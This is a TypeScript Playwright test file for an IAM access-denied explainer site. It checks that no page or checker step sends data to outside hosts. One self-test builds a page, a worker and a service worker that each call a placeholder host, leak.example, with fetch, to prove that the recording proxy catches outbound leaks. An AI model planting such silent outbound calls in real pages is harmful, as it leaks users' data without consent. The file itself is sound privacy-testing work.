// Nothing leaves: every kind of page and the checker from the paste to the link, with all that goes into the network recorded outside of the browser.
import { mkdtempSync, writeFileSync } from 'node:fs'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { dist } from '../../scripts/serve.ts'
import { CheckerPage, policyOf } from './checker-page.ts'
import { openSearch } from './open-search.ts'
import { type Browser, type BrowserContext, expect, type Page, test } from './test.ts'
import { host, isKept } from './versions.ts'

const pages = [
  '',
  'billing/not-authorized/',
  'messages/which-gate/',
  'policies/rules/',
  'checks/',
  'checks/redundant-action/',
  'reference/',
  'reference/s3/',
  'guides/billing-access/',
  'guides/outside-access/',
  'hosting/no-egress/',
  'start/what-it-does/',
  'no/such/page',
  'checker.html',
]
const secret = 'mateojackson'
const deniedMessage = `User: arn:aws:iam::123456789012:user/${secret} is not authorized to perform: s3:GetObject on resource: arn:aws:s3:::b/${secret}`

test('every kind of page and the whole flow of the checker', async ({ browser }) => {
  const outside = await recorder(browser)
  const site = await host(dist, '/a/b/')
  const asked: string[] = []
  site.hear(({ method, url }) => asked.push(`${method} ${url}`))
  const page = await outside.context.newPage()
  for (const path of pages) {
    await page.goto(site.address + path)
    await page.waitForLoadState('networkidle')
  }
  await page.goto(`${site.address}checker/`)
  await isKept(page)
  await wholeFlow(page)
  await page.goto(`${site.address}billing/not-authorized/`)
  await (await openSearch(page)).fill(deniedMessage)
  await expect(page.locator('.wd-best a').first()).toBeVisible()
  await outside.close()
  await site.close()
  expect(outside.seen).toEqual([])
  // Its own server hears for which files it is asked, and nothing else.
  expect(asked.length).toBeGreaterThan(1000)
  expect(
    asked.filter((line) => !line.startsWith('GET ') || line.includes(secret) || line.includes('123456789012')),
  ).toEqual([])
})

test('the recorder would see what a page, a worker and a service worker send', async ({ browser }) => {
  const folder = mkdtempSync(join(tmpdir(), 'whydenied-leak-'))
  const leak = (who: string): string => `fetch('http://leak.example/${who}', { mode: 'no-cors' }).catch(() => {})`
  writeFileSync(join(folder, 'worker.js'), leak('worker'))
  writeFileSync(join(folder, 'sw.js'), leak('service-worker'))
  writeFileSync(
    join(folder, 'index.html'),
    `<script>${leak('page')}; new Worker('worker.js'); navigator.serviceWorker.register('sw.js')</script>`,
  )
  const outside = await recorder(browser)
  const site = await hostOpenly(folder)
  const page = await outside.context.newPage()
  await page.goto(`http://localhost:${(site.address() as AddressInfo).port}/`)
  await expect.poll(() => new Set(outside.seen).size).toBe(3)
  expect(new Set(outside.seen)).toEqual(
    new Set(['page', 'worker', 'service-worker'].map((who) => `GET http://leak.example/${who}`)),
  )
  await outside.close()
  site.close()
})

/** From the error to the fix, and everything that can be exported. */
async function wholeFlow(page: Page): Promise<void> {
  const checker = new CheckerPage(page)
  await checker.isAwake()
  await checker.paste.fill(deniedMessage)
  await checker.causeIs('no-identity-allow')
  await checker.addPolicy(policyOf({ Effect: 'Allow', Action: 's3:Put*', Resource: '*' }))
  await page.getByRole('button', { name: 'Apply it here' }).click()
  await checker.decides('allowed')
  await page.getByRole('button', { name: 'Undo' }).click()
  await page.getByLabel('I was denied').check()
  await checker.share()
  await page.getByRole('button', { name: 'Copy a link' }).click()
  await expect(page.getByText('Link copied').first()).toBeVisible()
  const link = await page.evaluate(() => navigator.clipboard.readText())
  const saved = page.waitForEvent('download')
  await page.getByRole('button', { name: 'Save the case' }).click()
  await saved
  await page.goto('about:blank')
  await page.goto(link)
  await checker.decides('implicitDeny')
  await checker.chooseExample('scp-region-lock')
  await checker.decides('explicitDeny')
}

/** Chromium asks Google what kinds of fields a form has. No page does that, and no page can keep it from doing so. */
const browsersOwn = 'content-autofill.googleapis.com:443'

interface Recorder {
  readonly context: BrowserContext
  /** Whatever was sent to another host than this machine. */
  readonly seen: readonly string[]
  close(): Promise<void>
}

/** A browser window whose way into the network is a proxy of ours; only this machine is reached directly. */
async function recorder(browser: Browser): Promise<Recorder> {
  const seen: string[] = []
  const proxy = createServer(({ method, url }, response) => {
    seen.push(`${method} ${url}`)
    response.writeHead(204).end()
  })
  proxy.on('connect', ({ url }, socket) => {
    if (url !== browsersOwn) seen.push(`CONNECT ${url}`)
    socket.destroy()
  })
  await new Promise<void>((resolve) => proxy.listen(0, '127.0.0.1', resolve))
  const { port } = proxy.address() as AddressInfo
  const context = await browser.newContext({
    proxy: { server: `http://127.0.0.1:${port}`, bypass: 'localhost' },
    permissions: ['clipboard-read', 'clipboard-write'],
    serviceWorkers: 'allow',
  })
  // Another port of this machine is another origin, too.
  const ports = new Set<string>()
  context.on('request', (request) => {
    const url = new URL(request.url())
    if (url.hostname === 'localhost') ports.add(url.port)
    if (ports.size > 1) seen.push(request.url())
  })
  return {
    context,
    seen,
    close: async () => {
      await context.close()
      proxy.close()
    },
  }
}

/** A site without any policy. */
async function hostOpenly(folder: string): Promise<Server> {
  const { default: sirv } = await import('sirv')
  const files = sirv(folder)
  const server = createServer((request, response) => files(request, response))
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  return server
}
